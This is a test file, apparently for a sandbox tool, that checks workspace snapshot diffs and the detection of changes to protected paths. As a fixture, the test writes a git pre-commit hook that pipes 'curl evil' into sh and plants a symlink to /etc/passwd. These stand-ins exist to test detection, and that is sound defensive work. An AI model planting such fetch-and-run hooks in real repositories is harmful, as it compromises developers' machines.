/**
 * The file-change manifest on a real directory: created, modified (same size too), deleted,
 * symlinks, protected paths, and the bounds (maxFiles) that make a snapshot partial.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { readChangedText, takeSnapshot } from '../../src/sandbox/files/index.js';
import { checkProtected, diffSnapshots } from '../../src/verify/index.js';
import { defaultPolicy } from '../../src/policy/schema.js';

describe('workspace snapshots and diff', () => {
  let ws: string;
  before(() => {
    ws = mkdtempSync(path.join(os.tmpdir(), 'airlock-files-'));
    mkdirSync(path.join(ws, 'src'));
    mkdirSync(path.join(ws, '.git/hooks'), { recursive: true });
    writeFileSync(path.join(ws, 'src/a.txt'), 'aaaa');
    writeFileSync(path.join(ws, 'src/b.txt'), 'bbbb');
    writeFileSync(path.join(ws, 'gone.txt'), 'x');
  });
  after(() => rmSync(ws, { recursive: true, force: true }));

  it('reports created, modified (same size, content hash) and deleted files, and protected paths', () => {
    const beforeSnap = takeSnapshot(ws);
    writeFileSync(path.join(ws, 'src/a.txt'), 'AAAA');
    unlinkSync(path.join(ws, 'gone.txt'));
    writeFileSync(path.join(ws, 'new.txt'), 'new');
    writeFileSync(path.join(ws, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
    symlinkSync('/etc/passwd', path.join(ws, 'link'));
    const diff = diffSnapshots(beforeSnap, takeSnapshot(ws));
    assert.deepEqual(diff.created, ['.git/hooks/pre-commit', 'link', 'new.txt']);
    assert.deepEqual(diff.modified, ['src/a.txt']);
    assert.deepEqual(diff.deleted, ['gone.txt']);
    assert.equal(diff.changed.length, 5);
    assert.equal(diff.partial, false);
    const findings = checkProtected(diff, defaultPolicy().verify);
    assert.deepEqual(findings.map((f) => [f.rule, f.category, f.location?.source]), [['files.protected-path-changed', 'file-change', '.git/hooks/pre-commit']]);
    const texts = readChangedText(ws, [...diff.created, ...diff.modified]);
    assert.deepEqual(texts.map((t) => t.path).sort(), ['.git/hooks/pre-commit', 'new.txt', 'src/a.txt']);
    // A file larger than the per-file bound is scanned on its first part, not skipped.
    assert.deepEqual(readChangedText(ws, ['src/a.txt'], 2), [{ path: 'src/a.txt', content: 'AA' }]);
  });

  it('is bounded: stops after maxFiles and says the manifest is partial', () => {
    const snap = takeSnapshot(ws, { maxFiles: 2 });
    assert.equal(Object.keys(snap.files).length, 2);
    assert.equal(snap.truncated, true);
    assert.match(snap.notes.join(' '), /maxFiles/);
    assert.equal(diffSnapshots(snap, snap).partial, true);
  });
});
